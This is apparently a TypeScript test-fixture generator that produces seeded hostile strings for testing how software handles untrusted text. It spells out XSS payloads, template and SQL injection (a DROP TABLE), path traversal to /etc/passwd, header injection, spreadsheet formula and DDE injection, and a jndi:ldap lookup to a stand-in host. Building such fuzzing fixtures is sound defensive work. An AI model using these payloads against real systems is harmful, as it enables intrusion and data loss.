// Texts that somebody could write who wants to run something, to break a page, or to turn what stands around their words.
// Made by a seed: the same number is the same text.

/** What each of them would call if it ran. */
export const GRIFF = 'window.FEIND'

type Art = (m: string, zufall: (bis: number) => number) => string

const wiederhole = (was: string, mal: number): string => was.repeat(mal)
const aus = (liste: readonly string[], zufall: (bis: number) => number): string =>
  liste[zufall(liste.length)] ?? ''

const RICHTUNG = ['\u202E', '\u202D', '\u202B', '\u2066', '\u2067', '\u2068', '\u200F']
const UNSICHTBAR = ['\u200B', '\u200D', '\u2060', '\uFEFF', '\u00AD']
const STEUER = ['\u0000', '\u0007', '\u0008', '\u001B[31m', '\u007F', '\u0085', '\u2028', '\u2029']
const EMOJI = ['👩‍👩‍👧‍👦', '🏳️‍🌈', '👍🏽', '🇩🇪', '1️⃣', '🧑🏿‍🚀']
const RTL = ['שלום עולם', 'مرحبا بالعالم', 'سلام ۱۲۳', 'ܫܠܡܐ']

const ARTEN: Readonly<Record<string, Art>> = {
  bild: (m, z) => `<img src=x${z(9)} onerror="${GRIFF}='${m}'">`,
  skript: (m) => `${m}</script><script>${GRIFF}='${m}'</script>`,
  svg: (m) => `<svg onload=${GRIFF}='${m}'><a xlink:href="javascript:${GRIFF}=1">${m}</a>`,
  rahmen: (m) => `<iframe srcdoc="<script>parent.FEIND='${m}'</script>"></iframe>`,
  stil: (m) => `<style>*{display:none}</style><base href="https://boese.example/">${m}`,
  link: (m) => `${m} javascript:${GRIFF}='${m}' [klick](javascript:${GRIFF}=1) https://boese.example/${m}`,
  daten: (m) => `data:text/html,<script>${GRIFF}='${m}'</script>`,
  vorlage: (m) => `{{constructor.constructor("${GRIFF}='${m}'")()}} \${${GRIFF}='${m}'} <%= ${m} %>`,
  attribut: (m) => `"' autofocus onfocus=${GRIFF}='${m}' x="`,
  entitaet: (m) => `&lt;b&gt;${m}&#x3C;script&#x3E;&amp;amp;`,
  umkehr: (m, z) => `${m} ${aus(RICHTUNG, z)}nemmok eis ${aus(RICHTUNG, z)}negnartreb€ 0001`,
  offen: (m, z) => wiederhole(aus(RICHTUNG, z), 20) + m,
  unsichtbar: (m, z) => [...m].join(aus(UNSICHTBAR, z)) + wiederhole(aus(UNSICHTBAR, z), 30) + m,
  turm: (m, z) => `${m} Z${wiederhole('\u0335\u0310\u0348', 40 + z(60))}algo`,
  lang: (m) => m + wiederhole('W', 4000),
  breit: (m) => `${m} ${wiederhole('Donaudampfschifffahrtsgesellschaft', 30)}`,
  umbruch: (m, z) => `${m}${wiederhole('\n', 30 + z(50))}unten`,
  leer: (m) => `${m}${wiederhole('\u3000', 200)}${wiederhole('\u00A0', 200)}.`,
  emoji: (m, z) => `${m} ${wiederhole(aus(EMOJI, z), 80)}`,
  rtl: (m, z) => `${aus(RTL, z)} ${m} ${aus(RTL, z)} 123-456`,
  formel: (m, z) =>
    `${aus(['=', '+', '-', '@', '\t=', '＝'], z)}HYPERLINK("https://boese.example/?"&A1;"${m}")`,
  dde: (m) => `=cmd|' /C calc'!A0${m}`,
  zitat: (m) => `"${m}";'${m}';\`${m}\`,"",;\r\n=1+1;"`,
  steuer: (m, z) => `${m}${aus(STEUER, z)}${aus(STEUER, z)}${m}`,
  halb: (m, z) => `${m}${aus(['\uD83D', '\uDE00', '\uD800\uD800'], z)}`,
  json: (m) => `{"__proto__":{"${m}":1},"constructor":null,"a":[[[[${m}`,
  sql: (m) => `${m}'; DROP TABLE assistent_vorgang; --%_\\`,
  pfad: (m) => `../../../../etc/passwd%00${m}?#/..;/%2e%2e/`,
  kopf: (m) => `${m}\r\nSet-Cookie: a=b\r\n\r\n<html>`,
  format: (m) => `%s %n %x \${jndi:ldap://boese.example/${m}} $(id) \`id\` | ${m}`,
}
export const FEINDLICHE_ARTEN = Object.keys(ARTEN)

export interface Feindlich {
  /** „F017x“: stands in the text, unless characters are strewn into it. */
  marke: string
  art: string
  text: string
}

/** So many texts, each kind about as often. */
export function feindlicheTexte(anzahl: number, seed: number): Feindlich[] {
  let zustand = seed >>> 0
  // Mulberry32: small, and the same everywhere.
  const zufall = (bis: number): number => {
    zustand = (zustand + 0x6d2b79f5) >>> 0
    let t = Math.imul(zustand ^ (zustand >>> 15), zustand | 1)
    t ^= t + Math.imul(t ^ (t >>> 7), t | 61)
    return ((t ^ (t >>> 14)) >>> 0) % bis
  }
  return Array.from({ length: anzahl }, (_, i) => {
    const art = FEINDLICHE_ARTEN[i % FEINDLICHE_ARTEN.length] ?? ''
    const marke = `F${String(i).padStart(3, '0')}x`
    return { marke, art, text: ARTEN[art]?.(marke, zufall) ?? '' }
  })
}
